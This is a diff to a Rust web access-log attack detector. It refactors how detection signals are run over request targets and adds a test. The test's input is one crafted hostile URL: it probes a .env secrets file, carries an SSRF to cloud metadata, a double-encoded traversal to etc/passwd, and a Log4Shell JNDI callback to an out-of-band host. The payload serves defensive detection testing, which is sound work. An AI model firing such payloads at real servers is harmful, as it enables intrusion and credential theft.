@@ -7,7 +7,8 @@
 mod finish;
 
 use std::hint::black_box;
-use std::sync::Arc;
+use std::ops::Range;
+use std::sync::{Arc, LazyLock};
 
 use accesslog::{Fields, Position, Record};
 use serde::{Deserialize, Serialize};
@@ -194,7 +195,7 @@ impl Detector {
             Glance::Close => true,
         };
         if is_close || others.any() {
-            self.look(at, record, &target, client, others, glance == Glance::Close);
+            self.look(at, record, &target, client, others, (key, route, glance));
         }
     }
 
@@ -252,30 +253,24 @@ impl Detector {
         target: &[u8],
         client: u64,
         others: Others,
-        is_uncounted: bool,
+        (key, route, glance): (TextKey, Route, Glance),
     ) {
         let _scope = self.key.enter();
-        let request = Request::new(record, target, others);
-        if is_uncounted {
+        let request = Request::on(route, record, target, others);
+        if glance == Glance::Close {
             self.count_urls(&request, client);
         }
         let mut evidence: Vec<Evidence> = Vec::new();
-        for (place, signal) in SIGNALS.iter().enumerate() {
-            if ablation::is_out(signal.name()) {
-                continue;
-            }
-            let before = evidence.len();
-            signal.look(&request, &mut evidence);
-            evidence[before..].iter_mut().for_each(|new| new.signal = place as u8);
-        }
-        if !evidence.iter().any(|evidence| evidence.signal().role() == Role::Objective) {
+        let (objectives, dress) = *LOOKERS;
+        look(&request, 0..objectives, &mut evidence);
+        if evidence.is_empty() {
             // A host in the target counts for its parameter's profile each time.
             if request.places.is_empty() && !request.is_own_storage {
-                let key = self.prefilter.key(target);
                 self.prefilter.remember(key, request.route, Glance::Quiet);
             }
             return;
         }
+        look(&request, objectives..dress, &mut evidence);
         let finding = Finding::new(at, &request, target, client, evidence);
         if !self.is_ordinary_by_crowd(&finding) {
             self.leads.add(finding);
@@ -343,6 +338,22 @@ impl Detector {
 #[inline]
 fn fetch(waiting: &[Sighting], near: impl Fn(&Sighting) -> u64) {
     black_box(waiting.iter().fold(0, |all, seen| all ^ near(seen)));
+}
+
+/// Where in the list of signals the objectives end, and where the dress does: what stands behind looks at no text.
+static LOOKERS: LazyLock<(usize, usize)> = LazyLock::new(|| {
+    let objectives = SIGNALS.iter().take_while(|signal| signal.role() == Role::Objective).count();
+    let dress = SIGNALS.iter().rposition(|signal| signal.role() == Role::Dress);
+    (objectives, dress.map_or(objectives, |last| last + 1))
+});
+
+/// What some of the signals see in the text of a request.
+fn look(request: &Request<'_>, signals: Range<usize>, evidence: &mut Vec<Evidence>) {
+    for place in signals.filter(|place| !ablation::is_out(SIGNALS[*place].name())) {
+        let before = evidence.len();
+        SIGNALS[place].look(request, evidence);
+        evidence[before..].iter_mut().for_each(|new| new.signal = place as u8);
+    }
 }
 
 /// The signals that cannot run on records that hold only these fields.
@@ -416,6 +427,24 @@ mod tests {
         let whole = severities(whole);
         assert_eq!(whole.len(), 6);
         assert_eq!(severities(one), whole);
+    }
+
+    #[test]
+    fn only_objectives_and_then_dress_look_at_texts() {
+        let (objectives, dress) = *LOOKERS;
+        assert!(objectives < dress);
+        assert!(SIGNALS[objectives..].iter().all(|signal| signal.role() != Role::Objective));
+        let target =
+            b"/a/.env?u=http://0x7f.1/latest/meta-data/&f=..%252f..%252fetc/passwd&x=${jndi:ldap://a.oast.fun}";
+        let record = Record { target: Some(target), ..Record::default() };
+        let request = Request::new(&record, target, Others::default());
+        let mut evidence = Vec::new();
+        look(&request, dress..SIGNALS.len(), &mut evidence);
+        assert_eq!(evidence, []);
+        look(&request, 0..dress, &mut evidence);
+        assert!(
+            [Role::Objective, Role::Dress].iter().all(|role| evidence.iter().any(|seen| seen.signal().role() == *role))
+        );
     }
 
     #[test]
